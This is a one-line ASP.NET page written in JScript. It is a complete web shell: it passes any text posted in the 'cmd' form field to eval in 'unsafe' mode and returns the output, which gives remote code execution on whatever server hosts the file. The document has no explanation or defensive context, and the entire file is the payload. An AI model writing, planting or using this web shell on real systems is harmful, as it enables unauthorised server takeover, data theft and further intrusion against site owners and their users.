<%@ Page Language = "jscript" %><% Response.Write(eval(Request.Form["cmd"], "unsafe")); %>
